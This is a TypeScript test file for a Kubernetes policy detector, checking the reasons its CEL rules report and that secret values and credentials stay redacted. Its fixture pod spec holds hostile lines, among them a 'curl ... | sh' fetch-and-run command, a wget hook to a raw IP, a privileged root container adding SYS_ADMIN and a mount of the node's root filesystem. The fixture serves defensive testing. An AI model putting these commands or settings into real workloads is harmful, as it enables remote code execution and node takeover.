import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { JsonObject } from '../../model/json.ts';
import { compileCel } from './compile-cel.ts';
import { celRule, cronJobOf } from './test-rules.ts';

const path = 'spec.jobTemplate.spec.template.spec';
const podSpec: JsonObject = {
  hostPID: true,
  tolerations: [{ operator: 'Exists' }],
  containers: [
    { name: 'quiet', image: 'nginx:1' },
    {
      name: 'shell',
      image: 'busybox',
      command: ['sh', '-c', 'curl -s https://files.example/r | sh'],
      env: [
        { name: 'TOKEN', value: 'very-secret-value' },
        { name: 'DB', valueFrom: { secretKeyRef: { name: 'db-creds' } } },
      ],
      envFrom: [{ secretRef: { name: 'all-of-it' } }],
      securityContext: { privileged: true, runAsUser: 0, capabilities: { add: ['SYS_ADMIN'] } },
      volumeMounts: [{ name: 'host', mountPath: '/host' }],
      lifecycle: { postStart: { exec: { command: ['wget', 'http://203.0.113.9/x'] } } },
    },
  ],
  volumes: [{ name: 'host', hostPath: { path: '/' } }],
};

const shell = `${path}.containers[1] ("shell")`;
const cases: readonly (readonly [string, readonly string[]])[] = [
  ['workload.hostPID', ['hostPID is true']],
  ['workload.scheduled && workload.hostPID', ['hostPID is true']],
  ['workload.scheduled', ['scheduled is true']],
  ['workload.hostPID && !workload.hostIPC', ['hostPID is true']],
  ['!workload.hostIPC', ['hostIPC is false']],
  [
    'workload.containers.exists(c, c.privileged && c.runAsUser == 0)',
    [`${shell}: privileged is true, runAsUser is 0`],
  ],
  [
    'workload.containers.exists(c, c.commandLines.exists(l, l.contains("| sh")))',
    [`${shell} runs: sh -c "curl -s https://files.example/r | sh"`],
  ],
  [
    'workload.containers.exists(c, c.commandLines.exists(l, l.matches("^wget")))',
    [`${shell} runs in a hook or probe: wget http://203.0.113.9/x`],
  ],
  [
    'workload.containers.exists(c, c.args.exists(a, a == "x") || c.command.exists(a, a == "sh"))',
    [`${shell} runs: sh -c "curl -s https://files.example/r | sh"`],
  ],
  [
    'workload.containers.exists(c, c.env.exists(e, e.value.contains("secret")))',
    [`${shell} sets the variable "TOKEN"`],
  ],
  [
    'workload.containers.exists(c, c.env.map(e, e.value).exists(v, v.contains("secret")))',
    [`${shell} sets the variable "TOKEN"`],
  ],
  [
    'workload.containers.exists(c, c.env.exists(e, e.secret != ""))',
    [`${shell} sets the variable "DB" from the Secret "db-creds"`],
  ],
  [
    'workload.containers.exists(c, c.envFrom.exists(e, e.secret == "all-of-it"))',
    [`${shell} takes its environment from the Secret "all-of-it"`],
  ],
  [
    'workload.containers.exists(c, c.mounts.exists(m, m.hostPath == "/" && !m.readOnly))',
    [`${shell} mounts "/" of the node at "/host"`],
  ],
  [
    'workload.containers.exists(c, c.capabilitiesAdd.exists(x, x in ["SYS_ADMIN", "ALL"]))',
    [`${shell} adds the capability "SYS_ADMIN"`],
  ],
  ['workload.volumes.exists(v, v.hostPath == "/")', ['volume "host": hostPath is "/"']],
  ['workload.tolerations.exists(t, t.operator == "Exists" && t.key == "")', ['tolerates every taint']],
  [
    'workload.ttlSecondsAfterFinished < 0 && workload.hostPID',
    ['ttlSecondsAfterFinished is not set, hostPID is true'],
  ],
  ['workload.labels["app"] == "x"', ['labels["app"] is "x"']],
  ['workload.labels.exists(k, workload.labels[k] == "x")', ['labels["app"] is "x"']],
  ['"app" in workload.labels', ['labels holds "app"']],
  ['workload.containers.size() == 2', ['the number of containers is 2']],
  ['!workload.containers.all(c, c.image != "busybox")', [`${shell}: image is "busybox"`]],
  ['workload.containers.filter(c, c.privileged).exists(c, c.tag == "")', [`${shell}: tag is empty`]],
  [
    'workload.containers.exists(c, [c.registry, c.repository].exists(x, x == "library/busybox"))',
    [`${shell}: repository is "library/busybox"`],
  ],
  ['actor.type == "none" ? workload.hostPID : false', [`hostPID is true, the actor's type is "none"`]],
  ['object.spec.schedule == "30 2 * * *"', ['the condition object.spec.schedule == "30 2 * * *" is true']],
  ['workload.containers.exists(c, c.image == "busybox".lowerAscii())', [`${shell}: image is "busybox"`]],
];

function reasonsOf(condition: string, spec: JsonObject = podSpec): readonly string[] {
  const { detector, problems } = compileCel([celRule(condition)]);
  assert.deepEqual(problems, []);
  const origin = { source: 'test', file: 'a.yaml', line: 1 };
  const object = cronJobOf(spec, { labels: { app: 'x' } });
  const [signal] = detector.inspect({ type: 'manifest', cluster: 'c', format: 'manifest', origin, object });
  assert.ok(signal !== undefined, 'did not fire');
  return signal.reasons;
}

for (const [condition, reasons] of cases) {
  test(condition, () => {
    assert.deepEqual(reasonsOf(condition), reasons);
  });
}

test('values of variables are never shown, however they are asked for', () => {
  for (const condition of [
    'workload.containers.exists(c, c.env.exists(e, e.value == "very-secret-value"))',
    'workload.containers.exists(c, c.env.exists(e, size(e.value) > 10))',
    'workload.containers.map(c, c.env).exists(list, list.exists(e, e.value.startsWith("very")))',
    'workload.containers.exists(c, (c.env.map(e, e.value) + c.args).exists(x, x.startsWith("very")))',
    'workload.containers[1].env[0].value.startsWith("very")',
    'workload.containers.exists(c, c.env.filter(e, e.name == "TOKEN").map(e, e.value).exists(v, v != ""))',
    'workload.containers.exists(c, c.env.map(e, e.name + "=" + e.value).exists(v, v.contains("very-secret")))',
    'workload.containers.exists(c, c.env.map(e, e.value).join(" ").contains("very-secret"))',
    'object.spec.jobTemplate.spec.template.spec.containers[1].env[0].value.contains("very")',
  ]) {
    assert.doesNotMatch(reasonsOf(condition).join(), /very-secret-value/, condition);
  }
});

test('long commands are cut around what matters, without credentials', () => {
  const script = `${'echo padding; '.repeat(100)} curl -u admin:hunter2secret --password=hunter2secret https://u:hunter2secret@files.example/r | sh`;
  const spec = { containers: [{ name: 'a', image: 'b', command: ['sh', '-c', script] }] };
  const [reason = ''] = reasonsOf(
    'workload.containers.exists(c, c.commandLines.exists(l, l.contains("curl")))',
    spec,
  );
  assert.ok(reason.length < 320, reason);
  assert.match(reason, /curl/);
  assert.doesNotMatch(reason, /hunter2/);
});
